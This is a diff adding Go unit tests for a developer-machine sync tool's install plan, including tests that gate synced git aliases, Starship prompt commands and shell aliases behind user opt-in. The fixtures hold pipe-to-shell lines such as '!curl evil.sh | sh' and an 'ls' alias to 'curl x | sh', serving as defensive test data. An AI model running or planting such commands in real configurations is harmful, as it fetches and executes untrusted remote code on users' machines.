@@ -133,6 +133,71 @@ func TestBuildInstallPlan_PackagesOnly(t *testing.T) {
 	assert.Empty(t, plan.UninstallTaps)
 }
 
+func TestBuildInstallPlan_Services(t *testing.T) {
+	diff := &syncpkg.SyncDiff{ServicesNotRunning: []string{"postgresql@16"}}
+
+	plan := buildInstallPlan(diff, &config.RemoteConfig{})
+
+	assert.Equal(t, []string{"postgresql@16"}, plan.StartServices)
+	assert.Equal(t, 1, plan.TotalActions())
+}
+
+func TestGateGitCommands_SilentNeedsOptIn(t *testing.T) {
+	newPlan := func() *syncpkg.SyncPlan {
+		return &syncpkg.SyncPlan{UpdateGit: &config.RemoteGitConfig{Settings: map[string]string{
+			"alias.st": "status", "alias.x": "!curl evil.sh | sh", "core.pager": "delta",
+		}}}
+	}
+
+	plan := newPlan()
+	require.NoError(t, gateGitCommands(plan, true, false))
+	assert.Equal(t, map[string]string{"alias.st": "status"}, plan.UpdateGit.Settings)
+
+	plan = newPlan()
+	require.NoError(t, gateGitCommands(plan, true, true))
+	assert.Len(t, plan.UpdateGit.Settings, 3)
+
+	plan = &syncpkg.SyncPlan{}
+	require.NoError(t, gateGitCommands(plan, true, false))
+	assert.Nil(t, plan.UpdateGit)
+}
+
+func TestGateStarshipConfig_SilentNeedsOptIn(t *testing.T) {
+	const toml = "[custom.x]\ncommand = \"curl evil.sh | sh\"\nwhen = \"true\"\n"
+	newPlan := func() *syncpkg.SyncPlan {
+		return &syncpkg.SyncPlan{UpdateShell: true, Starship: true, StarshipConfig: toml}
+	}
+
+	plan := newPlan()
+	require.NoError(t, gateStarshipConfig(plan, true, false))
+	assert.Empty(t, plan.StarshipConfig)
+	assert.True(t, plan.Starship, "the prompt itself is still set up")
+
+	plan = newPlan()
+	require.NoError(t, gateStarshipConfig(plan, true, true))
+	assert.Equal(t, toml, plan.StarshipConfig)
+}
+
+func TestGateShellSnippets_SilentNeedsOptIn(t *testing.T) {
+	newPlan := func() *syncpkg.SyncPlan {
+		return &syncpkg.SyncPlan{UpdateShellSnippets: true, ShellSnippets: &config.ShellSnippets{
+			Aliases: []config.ShellAlias{{Name: "ls", Command: "curl x | sh"}},
+		}}
+	}
+
+	plan := newPlan()
+	require.NoError(t, gateShellSnippets(plan, true, false))
+	assert.False(t, plan.UpdateShellSnippets)
+
+	plan = newPlan()
+	require.NoError(t, gateShellSnippets(plan, true, true))
+	assert.True(t, plan.UpdateShellSnippets)
+
+	plan = &syncpkg.SyncPlan{UpdateShellSnippets: true}
+	require.NoError(t, gateShellSnippets(plan, true, false))
+	assert.True(t, plan.UpdateShellSnippets, "removing the block needs no opt-in")
+}
+
 func TestBuildInstallPlan_EmptyDiff(t *testing.T) {
 	diff := &syncpkg.SyncDiff{}
 	rc := &config.RemoteConfig{}
@@ -186,6 +251,91 @@ func TestBuildInstallPlan_ShellChanges_NilRCShell(t *testing.T) {
 	assert.False(t, plan.UpdateShell)
 }
 
+func TestBuildInstallPlan_SnippetsOnly(t *testing.T) {
+	snippets := &config.ShellSnippets{Path: []string{"$HOME/bin"}}
+	diff := &syncpkg.SyncDiff{
+		Shell: &syncpkg.ShellDiff{SnippetsChanged: true, RemoteSnippets: snippets},
+	}
+	rc := &config.RemoteConfig{Shell: &config.RemoteShellConfig{OhMyZsh: true, Snippets: snippets}}
+
+	plan := buildInstallPlan(diff, rc)
+
+	assert.False(t, plan.UpdateShell, "framework is unchanged")
+	assert.True(t, plan.UpdateShellSnippets)
+	assert.Equal(t, snippets, plan.ShellSnippets)
+	assert.Equal(t, 1, plan.TotalActions())
+}
+
+func TestBuildInstallPlan_SnippetsRemoved(t *testing.T) {
+	diff := &syncpkg.SyncDiff{
+		Shell: &syncpkg.ShellDiff{SnippetsChanged: true, LocalSnippets: &config.ShellSnippets{Path: []string{"/opt/bin"}}},
+	}
+
+	plan := buildInstallPlan(diff, &config.RemoteConfig{})
+
+	assert.True(t, plan.UpdateShellSnippets)
+	assert.Nil(t, plan.ShellSnippets, "nil snippets removes the block")
+}
+
+func TestBuildInstallPlan_GitChanged(t *testing.T) {
+	diff := &syncpkg.SyncDiff{
+		GitChanged:       []syncpkg.GitSettingDiff{{Key: "init.defaultBranch", RemoteValue: "main", LocalValue: "master"}},
+		GitignoreChanged: true,
+	}
+	rc := &config.RemoteConfig{Git: &config.RemoteGitConfig{
+		Settings:      map[string]string{"init.defaultBranch": "main", "alias.co": "checkout"},
+		Gitignore:     ".DS_Store\n",
+		Gitattributes: "*.png binary\n",
+	}}
+
+	plan := buildInstallPlan(diff, rc)
+
+	require.NotNil(t, plan.UpdateGit)
+	assert.Equal(t, map[string]string{"init.defaultBranch": "main"}, plan.UpdateGit.Settings, "only changed keys")
+	assert.Equal(t, ".DS_Store\n", plan.UpdateGit.Gitignore)
+	assert.Empty(t, plan.UpdateGit.Gitattributes, "unchanged file is not rewritten")
+	assert.Equal(t, 2, plan.TotalActions())
+}
+
+func TestBuildInstallPlan_GitProfilesChanged(t *testing.T) {
+	work := config.GitProfile{Name: "work", Directory: "~/work/", Email: "jane@acme.com"}
+	oss := config.GitProfile{Name: "oss", Directory: "~/oss/", Email: "jane@oss.dev"}
+	diff := &syncpkg.SyncDiff{GitProfilesChanged: []string{"oss"}}
+	rc := &config.RemoteConfig{Git: &config.RemoteGitConfig{Profiles: []config.GitProfile{work, oss}}}
+
+	plan := buildInstallPlan(diff, rc)
+
+	require.NotNil(t, plan.UpdateGit)
+	assert.Equal(t, []config.GitProfile{oss}, plan.UpdateGit.Profiles)
+	assert.Equal(t, 1, plan.TotalActions())
+}
+
+func TestBuildInstallPlan_SSHChanged(t *testing.T) {
+	rc := &config.RemoteConfig{SSH: &config.RemoteSSHConfig{
+		Hosts:      []config.SSHHost{{Host: "github.com", User: "git"}},
+		KnownHosts: []string{"github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"},
+	}}
+
+	plan := buildInstallPlan(&syncpkg.SyncDiff{}, rc)
+	assert.Nil(t, plan.UpdateSSH, "nothing differs")
+
+	plan = buildInstallPlan(&syncpkg.SyncDiff{SSHKnownHostsMissing: 1}, rc)
+	assert.Same(t, rc.SSH, plan.UpdateSSH)
+	assert.Equal(t, 1, plan.TotalActions())
+}
+
+func TestBuildInstallPlan_MachineChanged(t *testing.T) {
+	diff := &syncpkg.SyncDiff{MachineChanged: []syncpkg.MachineNameDiff{
+		{Key: "HostName", RemoteValue: "jane-mbp", LocalValue: "Janes-MacBook-Pro"},
+	}}
+	rc := &config.RemoteConfig{Machine: &config.RemoteMachineConfig{ComputerName: "Jane's Mac", HostName: "{{user}}-mbp"}}
+
+	plan := buildInstallPlan(diff, rc)
+
+	assert.Equal(t, &config.RemoteMachineConfig{HostName: "jane-mbp"}, plan.UpdateMachine, "only changed names, resolved")
+	assert.Equal(t, 1, plan.TotalActions())
+}
+
 func TestBuildInstallPlan_DotfilesChanged(t *testing.T) {
 	diff := &syncpkg.SyncDiff{
 		DotfilesChanged: true,